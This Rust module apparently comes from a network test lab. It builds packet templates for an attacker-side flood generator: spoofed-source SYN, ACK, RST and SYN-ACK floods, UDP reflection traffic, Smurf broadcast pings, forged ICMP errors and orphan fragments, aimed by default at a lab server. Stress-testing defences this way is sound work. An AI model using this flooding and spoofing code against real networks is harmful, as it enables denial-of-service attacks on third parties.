//! What the attacker is told, and the frame that it starts from.

use std::{net::IpAddr, time::Duration};

use crate::{
    lab::abi::{self, Generate},
    packet::{
        broadcast,
        checksum::Sum,
        ip,
        tcp::{self, flag, linux_options},
    },
    pair::{SERVER_V4, SERVER_V6},
};

/// What the flood consists of.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Segment {
    /// SYNs as Linux sends them: 74 bytes (IPv4) or 94 (IPv6).
    Syn,
    /// ACKs with random sequence and acknowledgment numbers, as are those of the following.
    Ack,
    /// ACKs with data.
    Data,
    /// FINs.
    Fin,
    /// RSTs.
    Rst,
    /// SYN-ACKs, as reflectors send them.
    SynAck,
    /// UDP from that port with so many bytes (at most 64): what reflectors send, or junk. IPv4 only: no checksum.
    Udp(u16, usize),
    /// Pings. IPv4 only, as are the following.
    Ping,
    /// Answers to pings that nobody sent: what a Smurf's victim gets.
    PingReply,
    /// Pings to everybody on the link.
    Smurf,
    /// Errors about connections of the server that there are not.
    IcmpError,
    /// Later fragments of datagrams that have no first one.
    Fragment,
}

impl Segment {
    /// Every kind of TCP.
    pub const ALL: [Self; 6] = [Self::Syn, Self::Ack, Self::Data, Self::Fin, Self::Rst, Self::SynAck];
}

/// Where it pretends to come from. Ports and sequence numbers are always new.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Source {
    /// IPv4: 32.0.0.0 to 63.255.255.255.
    AnyV4,
    /// IPv6: `2600::/16`.
    AnyV6,
    /// IPv4: this many (a power of two) from 45.0.0.0 on.
    SomeV4(u32),
    /// One real address.
    One(IpAddr),
}

/// A flood, ordered.
#[derive(Clone, Debug)]
pub struct Order {
    /// What.
    pub segment: Segment,
    /// From whom.
    pub source: Source,
    /// To whom; the server unless somebody behind it.
    pub destination: Option<IpAddr>,
    /// To which port.
    pub port: u16,
    /// How fast; 0 for as fast as one core can.
    pub pps: u64,
    /// How many.
    pub frames: u64,
    /// How long.
    pub at_most: Duration,
    /// On which core.
    pub core: usize,
    /// Nice value of the generator: it spins between two frames, and others may need its core.
    pub nice: i32,
}

/// Offsets in the frame, and whether the family is IPv6.
struct Layout {
    ipv6: bool,
    source: usize,
    transport: usize,
}

const V4: Layout = Layout { ipv6: false, source: 26, transport: 34 };
const V6: Layout = Layout { ipv6: true, source: 22, transport: 54 };

impl Order {
    /// SYNs from anywhere to port 80, without an end but a minute.
    #[must_use]
    pub fn syns(source: Source, core: usize) -> Self {
        let at_most = Duration::from_mins(1);
        Self {
            segment: Segment::Syn,
            source,
            destination: None,
            port: 80,
            pps: 0,
            frames: u64::MAX,
            at_most,
            core,
            nice: 0,
        }
    }

    fn layout(&self) -> &'static Layout {
        match self.source {
            Source::AnyV4 | Source::SomeV4(_) | Source::One(IpAddr::V4(_)) => &V4,
            Source::AnyV6 | Source::One(IpAddr::V6(_)) => &V6,
        }
    }

    fn is_tcp(&self) -> bool {
        Segment::ALL.contains(&self.segment)
    }

    fn flags(&self) -> u32 {
        let source = if matches!(self.source, Source::One(_)) { 0 } else { abi::RANDOM_SOURCE };
        if !self.is_tcp() {
            return source | abi::ONLY_SOURCE;
        }
        let has_ack = !matches!(self.segment, Segment::Syn | Segment::Rst);
        let ack = if has_ack { abi::RANDOM_ACK } else { 0 };
        source | ack | if self.layout().ipv6 { abi::IPV6 } else { 0 }
    }

    /// The generator's orders, and a frame of the right length.
    pub(super) fn template(&self, ifindex: u32) -> (Generate, Vec<u8>) {
        let layout = self.layout();
        let mut frame = self.frame();
        if let Segment::Udp(..) = self.segment {
            frame[layout.transport + 6..layout.transport + 8].fill(0);
        } else if self.is_tcp() {
            for at in [0, 4, 6, 8, 10, 16].map(|at| layout.transport + at) {
                frame[at..at + 2].fill(0);
            }
        }
        let sum_transport = sum(&frame[layout.source..], layout, frame.len());
        let sum_network = if layout.ipv6 { 0 } else { zeroed_sum(&mut frame[14..34], 10) };
        let mut template = [0; abi::TEMPLATE_WORDS];
        for (word, bytes) in template.iter_mut().zip(frame.chunks(8)) {
            let mut padded = [0; 8];
            padded[..bytes.len()].copy_from_slice(bytes);
            *word = u64::from_ne_bytes(padded);
        }
        let source_mask = if let Source::SomeV4(number) = self.source { number - 1 } else { u32::MAX };
        let interval = 1_000_000_000_u64.checked_div(self.pps).unwrap_or(0);
        let (flags, len, limit) = (self.flags(), frame.len() as u32, self.frames);
        let generate = Generate {
            ifindex,
            flags,
            len,
            source_mask,
            interval,
            limit,
            sum_network,
            sum_transport,
            template,
        };
        (generate, frame)
    }

    /// The frame with a source that is zero where a random one goes.
    fn frame(&self) -> Vec<u8> {
        let source = match self.source {
            Source::One(address) => address.to_string(),
            Source::AnyV6 => "2600::".to_owned(),
            Source::AnyV4 | Source::SomeV4(_) => "0.0.0.0".to_owned(),
        };
        let server = if self.layout().ipv6 { IpAddr::from(SERVER_V6) } else { SERVER_V4.into() };
        let destination = self.destination.unwrap_or(server).to_string();
        let segment = tcp::Segment::default().ports(0, self.port);
        let segment = match self.segment {
            Segment::Udp(from, len) => {
                return ip(&source, &destination).udp(from, self.port, &vec![0x5a; len & !1]).bytes();
            }
            Segment::Ping => return ip(&source, &destination).icmp(8, 0, &[0x5a; 36]).bytes(),
            Segment::PingReply => return ip(&source, &destination).icmp(0, 0, &[0x5a; 36]).bytes(),
            Segment::Smurf => {
                return broadcast(ip(&source, "255.255.255.255").icmp(8, 0, &[0x5a; 36]).bytes());
            }
            Segment::IcmpError => {
                let quoted = ip(&destination, "80.9.9.9").syn(self.port);
                return ip(&source, &destination).icmp_about(3, 4, &quoted).bytes();
            }
            Segment::Fragment => {
                return ip(&source, &destination).fragment(1480, false).raw(17, &[0x5a; 64]).bytes();
            }
            Segment::Syn => segment.options(&linux_options(0x0100_0000)),
            Segment::Ack => segment.flags(flag::ACK),
            Segment::Data => {
                tcp::Segment { payload: b"data".to_vec(), ..segment.flags(flag::ACK | flag::PSH) }
            }
            Segment::Fin => segment.flags(flag::ACK | flag::FIN),
            Segment::Rst => segment.flags(flag::RST),
            Segment::SynAck => segment.flags(flag::SYN | flag::ACK),
        };
        ip(&source, &destination).tcp(&segment).bytes()
    }
}

/// Sum of the pseudo header and the segment, in the order of memory: the sum's bytes are swapped, which is
/// all that byte order does to it (RFC 1071 section 2).
fn sum(from_source: &[u8], layout: &Layout, frame_len: usize) -> u64 {
    let len = frame_len - layout.transport;
    let words = Sum::default().plus(from_source).plus(&[0, 6]).plus(&(len as u16).to_be_bytes());
    u64::from(words.folded().swap_bytes())
}

/// Clears the checksum at `at` and sums the rest up.
fn zeroed_sum(header: &mut [u8], at: usize) -> u64 {
    header[at..at + 2].fill(0);
    u64::from(Sum::default().plus(header).folded().swap_bytes())
}
